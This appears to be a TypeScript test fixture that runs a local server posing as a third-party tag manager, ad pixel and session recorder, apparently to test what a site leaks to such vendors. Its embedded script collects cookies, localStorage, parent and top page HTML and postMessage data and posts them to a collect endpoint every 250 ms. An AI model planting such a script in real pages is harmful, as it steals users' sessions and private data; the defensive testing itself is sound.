import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";

/**
 * Another company, played: a tag manager, a pixel and a session recorder that report everything they can see, as often as they
 * can, and keep beating while they live. What they report is what a curious or careless vendor could learn.
 */
export async function startThirdParty(): Promise<{
  origin: string;
  env: Record<string, string>;
  stop(): Promise<void>;
}> {
  const server = createServer((request, response) => {
    response.setHeader("Access-Control-Allow-Origin", "*");
    response.setHeader("Cache-Control", "no-store");
    const isScript = request.url?.endsWith(".js");
    response.setHeader("Content-Type", isScript ? "text/javascript" : "text/plain");
    request.resume().once("end", () => response.end(isScript ? CURIOUS : ""));
  });
  await new Promise<void>((done) => server.listen(0, "127.0.0.1", done));
  const origin = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  const env = {
    TAG_MANAGER_URL: `${origin}/tag-manager.js`,
    SESSION_RECORDING_URL: `${origin}/recorder.js`,
    AD_PIXEL_URL: `${origin}/pixel.js`,
    AD_PIXEL_ID: "4242",
  };
  return { origin, env, stop: () => stop(server) };
}

function stop(server: Server): Promise<void> {
  server.closeAllConnections();
  return new Promise((done) => server.close(() => done()));
}

const CURIOUS = /* js */ `(() => {
  const { src } = document.currentScript;
  const told = [];
  const attempt = (look) => { try { return look(); } catch (error) { return error.name; } };
  const report = (why) => {
    const body = JSON.stringify({
      why, told, from: src,
      location: location.href,
      referrer: document.referrer,
      title: document.title,
      cookie: attempt(() => document.cookie),
      storage: attempt(() => ({ ...localStorage })),
      page: attempt(() => parent.document.documentElement.outerHTML),
      address: attempt(() => top.location.href),
      own: document.documentElement.outerHTML,
      files: performance.getEntries().map(({ name }) => name),
      layer: window.dataLayer,
      queue: attempt(() => window.fbq.queue.map((one) => [...one])),
    });
    fetch(new URL("/collect", src), { method: "POST", mode: "no-cors", body, keepalive: true }).catch(() => {});
  };
  addEventListener("message", ({ data }) => { told.push(data); report("message"); });
  addEventListener("pagehide", () => report("bye"));
  setInterval(() => report("beat"), 250);
  report("load");
})();`;
